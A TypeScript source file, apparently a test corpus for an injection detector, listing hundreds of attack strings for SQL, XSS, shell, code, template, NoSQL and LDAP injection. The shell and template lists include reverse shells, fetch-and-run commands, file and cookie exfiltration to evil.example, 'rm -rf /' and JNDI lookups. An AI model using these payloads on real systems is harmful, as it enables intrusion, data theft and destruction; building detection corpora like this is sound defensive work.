/** What attackers write, kind by kind: our own collection of the common forms, each as the value of one parameter. */
import type { InjectionKind } from "@/lib/detection/injection/finding";

export const attacks: Readonly<Record<InjectionKind, readonly string[]>> = {
  sqli: [
    "' or 1=1--", "' OR '1'='1", "1 or 1=1", "1' or '1'='1' -- -", "admin'--", "admin' #", "admin'/*", "') or ('1'='1", "1) or (1=1", '" or ""="', "' or ''='", "x' or 1=1 or 'x'='y",
    "1 union select 1,2,3", "1' union all select null,null,null--", "-1 UNION SELECT username,password FROM users", "1/**/union/**/select/**/1,2", "1 UnIoN/*!50000SeLeCt*/1,2", "' union select 1 from dual--",
    "1; drop table users", "1';drop table users;--", "1; select pg_sleep(5)--", "'; exec xp_cmdshell('dir')--", "1;waitfor delay '0:0:5'--", "1' and sleep(5)#", "1 and sleep(5)", "1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -",
    "1 and benchmark(5000000,md5(1))", "1' and extractvalue(1,concat(0x7e,version()))-- -", "1 and updatexml(1,concat(0x7e,(select user())),1)", "1' order by 10--", "1 order by 3#", "1' group by 1 having 1=1--",
    "1 and (select count(*) from information_schema.tables)>0", "1 and ascii(substring((select database()),1,1))>64", "1' and substr(version(),1,1)='5", "1' || (select password from users limit 1) || '", "'||(select 1 from dual)||'",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)", "1 into outfile '/var/www/x.php'", "1' and load_file('/etc/passwd')--", "1' and 1=cast((select version()) as int)--", "1 and 1=convert(int,@@version)",
    "1' rlike (select (case when (1=1) then 1 else 0x28 end))-- -", "1 like 1", "' like '%", "1' and '1' like '1", "1 xor 1=1", "1 && 1=1", "1' && '1'='1", "1 || 1=1", "0 or not 1=2", "' or true--", "' or 1 limit 1--", "'='", "'-'", "' or username is not null--",
    "1 and exists(select * from users)", "1' and if(1=1,sleep(5),0)--", "if(now()=sysdate(),sleep(5),0)", "(select(0)from(select(sleep(5)))v)", "1%27%20or%201=1--", "1 and 1=(select 1 from pg_sleep(5))", "';select pg_sleep(5)--", "1;declare @x varchar(99)",
    "1' and json_keys((select convert((select version()) using utf8)))-- -", "1 AND 5650=CONVERT(INT,(SELECT CHAR(113)))", "') union select 1,2,3--", "1)) union select 1--", "%' and 1=1 and '%'='", "1' AND ROW(1,2)>(SELECT COUNT(*),CONCAT(0x71) FROM x GROUP BY y)-- z",
    "1; insert into users values('a','b')", "1'; update users set password='x' where id=1--", "1; shutdown--", "1 union(select 1)", "1e1union select 1", "1 union select @@version", "1'union select'a", "null union select 1", "a' union select table_name from all_tables--",
    "1 and (select 6765 from (select(sleep(5)))abcd)", "1,(select case when(1=1) then 1 else 1*(select 1 from mysql.user)end)=1", "1-sleep(5)", "1*(select 1)", "';shutdown with nowait;--", "' and 1=0 union select null, 'x'--", "or 1=1", "' or 'x'='x';#",
  ],
  xss: [
    "<script>alert(1)</script>", "<ScRiPt >alert(1)</ScRiPt >", "<script src=//evil.example/x.js></script>", '"><script>alert(1)</script>', "<img src=x onerror=alert(1)>", '"><img src=x onerror=alert`1`>', "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='jAvAsCrIpT&colon;alert(1)'>x", "javascript:alert(document.cookie)", "java\tscript:alert(1)", "<input autofocus onfocus=alert(1)>", "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="', "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)></video>", "<math><mtext></mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">", "<object data=javascript:alert(1)>",
    "<embed src=data:text/html;base64,PHNjcmlwdD4=>", "data:text/html,<script>alert(1)</script>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>", "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x",
    "</script><script>alert(1)</script>", "';alert(1)//", "\";alert(1);//", "'-alert(1)-'", "\\';alert(1)//", "${alert(1)}", "<x onclick=alert(1)>click", "<img src=`x`onerror=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>", "<isindex action=javascript:alert(1) type=image>",
    "<style>@import'javascript:alert(1)'</style>", "<div style=\"width:expression(alert(1))\">", "<link rel=stylesheet href=javascript:alert(1)>", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "eval(String.fromCharCode(97,108))",
    "window['alert'](1)", "top[/al/.source+/ert/.source](1)", "(alert)(1)", "document.location='//evil.example/?'+document.cookie", "{{constructor.constructor('alert(1)')()}}", "<iframe srcdoc='<script>alert(1)</script>'>", "<svg><script>alert&#40;1&#41;</script>", "<img/src/onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "vbscript:msgbox(1)", "<xss id=x tabindex=1 onfocus=alert(1)></xss>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea><script>alert(1)</script>", "onerror=alert;throw 1", "<a onmouseover=alert(1)>", "'><svg/onload=confirm(1)>", "--><script>alert(1)</script>", "prompt`1`",
  ],
  shell: [
    "; id", ";id;", "| id", "|| id", "& whoami", "&& whoami", "`id`", "$(id)", "$(whoami)", "; cat /etc/passwd", "| cat /etc/passwd", "127.0.0.1; ls -la", "127.0.0.1 && ping -c 5 10.0.0.1", "127.0.0.1|nslookup evil.example", "a;sleep 5", "a|sleep 5", "a`sleep 5`", "x$(sleep 5)x",
    "; wget http://evil.example/x.sh -O- | sh", "; curl evil.example|bash", ";nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "; python -c 'import os;os.system(\"id\")'", "; perl -e 'system(\"id\")'", "\nid\n", "%0aid", "a\ncat /etc/passwd", "c''at /etc/passwd",
    ";ca\\t /etc/passwd", ";w'h'oami", "$IFS$9cat", "cat${IFS}/etc/passwd", "{cat,/etc/passwd}", ";cat</etc/passwd", "() { :;}; echo vulnerable", "& dir c:\\", "| type c:\\boot.ini", "& ping -n 5 127.0.0.1", "cmd /c whoami", "cmd.exe /c dir", "powershell -enc SQBFAFgA",
    "IEX(New-Object Net.WebClient).DownloadString('http://evil.example')", "certutil -urlcache -f http://evil.example x.exe", "& net user hacker x /add", "/bin/cat /etc/passwd", "/usr/bin/id", "/???/c?t /???/p??s??", "; uname -a", "; ifconfig", "|ls", ";ls", "test;echo 123|md5sum", "; rm -rf /", "'; id #", "\"; id #",
    "$(curl http://evil.example/`whoami`)", "`curl http://evil.example`", "; chmod +x /tmp/x", ";telnet 10.0.0.1 4444", "| tee /tmp/x", "; kill -9 1", "|mail a@evil.example < /etc/passwd", ";php -r 'phpinfo();'", "x; busybox nc 10.0.0.1 1 -e sh", "--exec=`id`", "a && cat /etc/hosts", "a; bash -c 'id'", "$(printf 'id')", "1;sudo su",
  ],
  code: [
    "<?php system('id'); ?>", "<?=`id`?>", "system('id')", "phpinfo();", "eval($_GET['x'])", "${@phpinfo()}", "assert($_POST[1])", "base64_decode('aWQ=')", "file_get_contents('/etc/passwd')", "call_user_func('system','id')", "preg_replace('/x/e','phpinfo()','x')", "passthru('id');",
    "require('child_process').exec('id')", "process.mainModule.require('child_process').execSync('id')", "global.process.exit()", "new Function('return process')()", "java.lang.Runtime.getRuntime().exec('id')", "T(java.lang.Runtime).getRuntime().exec('id')", "new java.lang.ProcessBuilder('id').start()",
    "__import__('os').system('id')", "os.system('id')", "subprocess.check_output('id')", "''.__class__.__mro__[1].__subclasses__()", "'id'.execute()", "_$$ND_FUNC$$_function(){}", "class.module.classLoader.URLs[0]=0", "__proto__[admin]=1", "constructor.prototype.admin", "eval(compile('x','y','exec'))", "(system)('id')",
  ],
  template: [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*'7'}}", "{{config.items()}}", "{{''.__class__.__mro__[2].__subclasses__()}}", "{% import os %}{{os.system('id')}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "#set($x=7*7)$x", "*{7*7}", "@(7*7)", "~{7*7}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}", "%{(#a=1)}", "%{7*7}", "${{7*7}}", "{{self._TemplateReference__context}}", "{{request.application.__globals__}}", "{{_self.env.registerUndefinedFilterCallback('exec')}}", "<!--#exec cmd=\"id\"-->", "<!--#include file=\"/etc/passwd\"-->", "<% system('id') %>",
    "{{['id']|map('system')|join}}", "{{lipsum.__globals__.os.popen('id').read()}}", "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://evil.example/a}", "{{range.constructor(\"return 1\")()}}", "<esi:include src=http://evil.example/>", "{php}phpinfo();{/php}",
  ],
  nosql: [
    "{\"$ne\":null}", "{\"$gt\":\"\"}", "{\"$where\":\"sleep(1000)\"}", "'; return true; var x='", "' || '1'=='1", "' && this.password.match(/.*/)//", "db.users.drop()", "db.getCollection('users')", "$where", "';sleep(5000);'", "{$regex:'.*'}", "', $or: [ {}, { 'a':'a", "this.password==''", "'||1==1//",
  ],
  ldap: ["*)(uid=*))(|(uid=*", "*)(&", "admin)(&)", "admin)(|(password=*)", "*))%00", "x)(|(cn=*)", "*)(objectClass=*", "a)(!(b=c)", "userPassword:2.5.13.18:=\\xx", "*()|&'"],
};
